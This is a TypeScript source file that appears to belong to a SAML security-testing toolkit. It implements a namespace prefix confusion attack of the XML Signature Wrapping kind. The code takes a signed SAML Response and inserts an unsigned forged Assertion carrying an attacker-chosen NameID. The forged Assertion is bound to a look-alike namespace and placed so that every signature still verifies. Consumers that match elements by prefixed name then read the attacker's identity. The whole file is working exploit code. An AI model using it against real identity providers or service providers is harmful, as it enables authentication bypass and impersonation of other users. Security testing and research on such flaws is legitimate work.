/*
 * Namespace prefix confusion (the parser/reader differential behind the XSW family, Somorovsky et al., "On
 * Breaking SAML", USENIX Security 2012, §4; SAML Raider's namespace tricks): an evil
 * Assertion (the attacker's NameID, a fresh ID, unsigned) is written with the familiar `saml:` prefix, but that
 * prefix is bound to a look-alike namespace, LOOK_ALIKE_NAMESPACE. To a namespace-aware reader it is not a SAML
 * element at all; to one that matches "saml:Assertion" / "saml:NameID" by their prefixed names it is the first
 * Assertion in the document. It goes where it keeps every signature valid when it can: into a ds:Object of the
 * Response's signature when the Response is signed, otherwise right before the genuine Assertion.
 * XML Namespaces 1.0 §3: element identity is (namespace URI, local name); a prefix means nothing by itself.
 */
import { NS } from '../namespaces.ts';
import { parseXml, serialize } from '../xml.ts';
import { evilCopy, genuineAssertion, signatureOf } from './evil-assertion.ts';

export const LOOK_ALIKE_NAMESPACE = 'urn:oasis:names:tc:SAML:2.0:assertion:confused';

export function namespacePrefixConfusion(xml: string, attackerNameId: string): string {
  const doc = parseXml(xml, 'signed Response');
  const response = doc.documentElement!;
  const genuine = genuineAssertion(response, 'namespacePrefixConfusion');
  // Rewritten as text, so every saml: element inside is re-bound at once; the Assertion declares its own prefixes.
  const evilXml = serialize(evilCopy(genuine, attackerNameId)).replaceAll(`xmlns:saml="${NS.assertion}"`, `xmlns:saml="${LOOK_ALIKE_NAMESPACE}"`);
  const evil = doc.importNode(parseXml(evilXml, 'evil Assertion').documentElement!, true);
  const responseSignature = signatureOf(response);
  if (responseSignature) {
    const object = doc.createElementNS(NS.ds, 'ds:Object');
    object.appendChild(evil);
    responseSignature.appendChild(object);
  } else {
    response.insertBefore(evil, genuine);
  }
  return serialize(doc);
}
